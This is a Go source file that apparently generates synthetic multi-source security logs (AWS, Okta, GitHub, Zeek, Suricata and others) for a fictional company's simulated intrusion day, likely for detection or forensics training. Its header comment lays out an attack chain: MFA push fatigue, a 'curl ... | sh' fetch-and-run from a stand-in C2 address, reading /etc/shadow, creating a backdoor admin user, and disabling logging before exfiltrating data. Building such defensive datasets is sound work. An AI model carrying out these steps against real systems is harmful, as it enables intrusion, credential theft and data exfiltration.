package main

import (
	"fmt"
	"math/rand/v2"
	"sort"
	"strings"
	"time"
)

// The story, in UTC, Tuesday 10 November 2026. Everything outside these
// steps is the estate's ordinary day.
//
//	08:52  carol.diaz opens SSH on the bastion's security group to the
//	       internet "for a vendor" (the door).
//	09:04  203.0.113.66 port-scans the public addresses (VPC Flow, Zeek,
//	       Suricata).
//	09:12  the same address scans www.fernhill.io with Nikto: 404s, path
//	       traversal, SQL injection, Shellshock and Log4Shell probes; the
//	       web root serves /.git/config (nginx, Zeek, Suricata).
//	09:31  it sprays one password at every Okta login it guessed from the
//	       git history; bob.kim's works, and Okta Verify pushes follow
//	       until bob accepts the fourth (09:39). bob reports the sign-in as
//	       suspicious at 10:05.
//	09:46  with bob's session: a personal access token authorised for the
//	       GitHub org, 28 private repositories cloned; a GCP service
//	       account key created in fernhill-analytics.
//	10:10  SSH password guessing against the bastion (invalid users, then
//	       deploy), and at 10:21 "Accepted password for deploy" (the
//	       password was in infra-ansible). sudo cat /etc/shadow, a key in
//	       root's authorized_keys, curl http://203.0.113.200/k.sh | sh, an
//	       implant in /tmp beaconing to cdn-telemetry.duckdns.org, an nmap
//	       sweep of the VPC.
//	10:34  the bastion's instance-role credentials used from the attacker's
//	       Kali box: a burst of AccessDenied, then the terraform-ci access
//	       key read from Secrets Manager.
//	10:48  as terraform-ci: CreateUser svc-backup-sync, AdministratorAccess,
//	       a console password, an access key; 10:58 a console login without
//	       MFA; 11:05 the new access key tried from a second box, an address
//	       the account never saw.
//	11:03  Block Public Access removed from fernhill-customer-exports and a
//	       public bucket policy; anonymous downloads from 203.0.113.200
//	       until 11:31. GuardDuty reports the instance credentials used
//	       outside AWS (11:10); its detector is deleted (11:14) and the
//	       trail stopped (11:15): CloudTrail is silent until 12:38.
//	11:40  a database dump leaves the bastion for 203.0.113.200:443
//	       (1.4 GiB and 1.3 GiB flow records).
//	12:38  alice.nguyen restarts the trail and cleans up; Okta sessions
//	       of bob are cleared; the GitHub token and GCP key revoked.
var day = time.Date(2026, 11, 10, 0, 0, 0, 0, time.UTC)

var (
	dayStart = at(8, 0, 0)
	dayEnd   = at(14, 0, 0)
)

// at is a time of the story's day.
func at(h, m, s int) time.Time {
	return day.Add(time.Duration(h)*time.Hour + time.Duration(m)*time.Minute + time.Duration(s)*time.Second)
}

// The estate.
const (
	account     = "314159265358"
	region      = "eu-west-1"
	vpcID       = "vpc-0f3a9c2e71d4b5a60"
	subnetPub   = "subnet-0a1f2e3d4c5b6a798"
	subnetPriv  = "subnet-07e6d5c4b3a291807"
	trailName   = "fernhill-main"
	exportsB    = "fernhill-customer-exports"
	artifactsB  = "fernhill-build-artifacts"
	sgBastion   = "sg-0c1d2e3f4a5b6c7d8"
	detectorID  = "4ac6b2e5f1d34e8f9a0b1c2d3e4f5a6b"
	gcpProject  = "fernhill-analytics"
	ghOrg       = "fernhill"
	ghOrgID     = 88420117
	domain      = "fernhill.io"
	officeIP    = "198.51.100.10" // office NAT
	natIP       = "198.51.100.30" // VPC NAT gateway
	bastionEIP  = "198.51.100.22"
	webEIP      = "198.51.100.80"
	attackerIP  = "203.0.113.66"  // the intruder's Kali VPS
	attackerIP2 = "203.0.113.145" // a second box of the intruder's, where the backdoor key goes
	c2IP        = "203.0.113.200" // implant C2 and drop server
	c2Name      = "cdn-telemetry.duckdns.org"
	resolverIP  = "10.0.0.53"
	dbIP        = "10.0.2.30"
	sensorIP    = "10.0.1.40"
	kaliCLI     = "aws-cli/2.15.30 md/awscrt#0.19.19 ua/2.0 os/linux#6.6.15-amd64 md/arch#x86_64 lang/python#3.11.8 md/pyimpl#CPython cfg/retry-mode#standard md/installer#source md/distrib#kali.2024 md/prompt#off"
	kaliFirefox = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
)

// host is an EC2 instance.
type host struct {
	name, id, ip, eip, eni, role, profileID string
}

var (
	bastion = host{"bastion-1", "i-0b7e3d9a4c2f18e65", "10.0.1.10", bastionEIP, "eni-0b7e3d9a4c2f18e60", "bastion-ssm", "AIPAUQ4N7XK2BASTION1"}
	web     = host{"web-1", "i-04c8f2a6d1e9b3f70", "10.0.1.20", webEIP, "eni-04c8f2a6d1e9b3f71", "web-app", "AIPAUQ4N7XK2WEBAPP01"}
)

// person is an employee: Okta login, display name, GitHub login (empty
// when none), AWS SSO permission set (empty when none), home address.
type person struct {
	login, name, github, awsSet, home, oktaID string
	mac                                       bool
}

var people = []person{
	{"alice.nguyen", "Alice Nguyen", "alice-nguyen", "AdministratorAccess", "192.0.2.14", "00u4f2a1NGUYEN7x1d7", true},
	{"bob.kim", "Bob Kim", "bobkim-dev", "DeveloperReadOnly", "192.0.2.37", "00u4f2a1KIMBOB9x1d7", true},
	{"carol.diaz", "Carol Diaz", "cdiaz", "PowerUserAccess", "192.0.2.52", "00u4f2a1DIAZC3x1d7a", false},
	{"dave.okafor", "Dave Okafor", "", "", "192.0.2.61", "00u4f2a1OKAFOR2x1d7", false},
	{"erin.walsh", "Erin Walsh", "", "", "192.0.2.73", "00u4f2a1WALSHE5x1d7", true},
	{"frank.mueller", "Frank Mueller", "", "", "192.0.2.88", "00u4f2a1MUELLR1x1d7", false},
	{"grace.lee", "Grace Lee", "gracelee-design", "", "192.0.2.95", "00u4f2a1LEEGRC8x1d7", true},
	{"henry.park", "Henry Park", "hpark", "DeveloperReadOnly", "192.0.2.101", "00u4f2a1PARKHN4x1d7", true},
	{"ivy.chen", "Ivy Chen", "ivychen-data", "", "192.0.2.117", "00u4f2a1CHENIV6x1d7", true},
	{"jonas.berg", "Jonas Berg", "", "", "192.0.2.123", "00u4f2a1BERGJN2x1d7", false},
	{"kate.murphy", "Kate Murphy", "", "", "192.0.2.131", "00u4f2a1MURPHK7x1d7", true},
	{"liam.osei", "Liam Osei", "liamosei", "DeveloperReadOnly", "192.0.2.144", "00u4f2a1OSEILM3x1d7", true},
	{"maya.singh", "Maya Singh", "mayasingh-qa", "", "192.0.2.158", "00u4f2a1SINGHM9x1d7", false},
	{"noah.fischer", "Noah Fischer", "", "", "192.0.2.166", "00u4f2a1FISCHN5x1d7", false},
	{"olivia.rossi", "Olivia Rossi", "", "", "192.0.2.172", "00u4f2a1ROSSIO1x1d7", true},
	{"peter.novak", "Peter Novak", "", "", "192.0.2.189", "00u4f2a1NOVAKP6x1d7", false},
}

func personNamed(login string) person {
	for _, p := range people {
		if p.login == login {
			return p
		}
	}
	panic("no person " + login)
}

func (p person) email() string { return p.login + "@" + domain }

// rec is one record of a source: its time, and a JSON object or a line.
type rec struct {
	t      time.Time
	j      obj
	line   string
	region string
}

// story holds the records of every source while they are made.
type story struct {
	r *rand.Rand

	cloudtrail []rec
	vpcflow    []rec
	guardduty  []rec
	s3access   []rec
	okta       []rec
	github     []rec
	gcp        []rec
	eveRecs    []rec
	zeek       map[string][]rec // by log path (conn, dns, ...)
	auth       map[string][]rec // by host name
	osquery    map[string][]rec
	nginx      []rec
	apache     []rec

	pid int // next process id on the hosts
}

func newStory() *story {
	return &story{
		r:       rand.New(rand.NewPCG(2026, 1110)),
		zeek:    map[string][]rec{},
		auth:    map[string][]rec{},
		osquery: map[string][]rec{},
		pid:     40000,
	}
}

func (s *story) tell() {
	s.tellAWS()
	s.tellSaaS()
	s.tellNetwork()
	s.tellHosts()
	s.tellWeb()
}

// Randomness, always from the story's seeded source.

func (s *story) intn(n int) int { return s.r.IntN(n) }

func (s *story) between(a, b time.Time) time.Time {
	d := b.Sub(a)
	if d <= 0 {
		return a
	}
	return a.Add(time.Duration(s.r.Int64N(int64(d))))
}

func (s *story) pick(xs ...string) string { return xs[s.r.IntN(len(xs))] }

func (s *story) chance(p float64) bool { return s.r.Float64() < p }

const hexdigits = "0123456789abcdef"
const alnum = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
const upperAlnum = "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"

func (s *story) chars(set string, n int) string {
	var b strings.Builder
	for range n {
		b.WriteByte(set[s.r.IntN(len(set))])
	}
	return b.String()
}

func (s *story) hex(n int) string { return s.chars(hexdigits, n) }

func (s *story) uuid() string {
	h := s.hex(32)
	return h[:8] + "-" + h[8:12] + "-4" + h[13:16] + "-" + string("89ab"[s.r.IntN(4)]) + h[17:20] + "-" + h[20:]
}

func (s *story) port() int { return 32768 + s.r.IntN(28000) }

// everyN calls f at about every d from a to b, with jitter of up to a
// quarter of d either way.
func (s *story) every(a, b time.Time, d time.Duration, f func(t time.Time)) {
	for t := a; t.Before(b); t = t.Add(d) {
		j := time.Duration(s.r.Int64N(int64(d)/2)) - d/4
		u := t.Add(j)
		if u.Before(a) {
			u = a
		}
		if !u.Before(b) {
			continue
		}
		f(u)
	}
}

func sortRecs(rs []rec) {
	sort.SliceStable(rs, func(i, j int) bool { return rs[i].t.Before(rs[j].t) })
}

// files turns the records into the sample files.
func (s *story) files() []file {
	var fs []file
	fs = append(fs, s.cloudtrailFiles()...)
	fs = append(fs, s.vpcflowFiles()...)
	fs = append(fs, s.guarddutyFiles()...)
	fs = append(fs, s.s3accessFiles()...)
	fs = append(fs, jsonLines("okta/okta-system-log-2026-11-10.jsonl.zst", zst, s.okta))
	fs = append(fs, jsonLines("github/fernhill-audit-log-2026-11-10.json.gz", gz, s.github))
	fs = append(fs, jsonLines("gcp/fernhill-analytics-cloudaudit-2026-11-10.jsonl.bz2", bz2, s.gcp))
	fs = append(fs, jsonLines("sensor-1/suricata/eve.json", plain, s.eveRecs))
	fs = append(fs, s.zeekFiles()...)
	for _, h := range []string{bastion.name, web.name} {
		fs = append(fs, textLines(h+"/var/log/auth.log", plain, s.auth[h]))
		fs = append(fs, jsonLines(h+"/var/log/osquery/osqueryd.results.log", plain, s.osquery[h]))
	}
	fs = append(fs, textLines(web.name+"/var/log/nginx/access.log", plain, s.nginx))
	fs = append(fs, textLines("docs-1/var/log/apache2/access.log.1.gz", gz, s.apache))
	return fs
}

func jsonLines(path string, c codec, rs []rec) file {
	sortRecs(rs)
	var b strings.Builder
	for _, r := range rs {
		b.Write(marshal(r.j))
		b.WriteByte('\n')
	}
	return file{path, c, []byte(b.String())}
}

func textLines(path string, c codec, rs []rec) file {
	sortRecs(rs)
	var b strings.Builder
	for _, r := range rs {
		b.WriteString(r.line)
		b.WriteByte('\n')
	}
	return file{path, c, []byte(b.String())}
}

func ts(t time.Time) string   { return t.UTC().Format("2006-01-02T15:04:05Z") }
func tsMs(t time.Time) string { return t.UTC().Format("2006-01-02T15:04:05.000Z") }

func sprintf(f string, a ...any) string { return fmt.Sprintf(f, a...) }
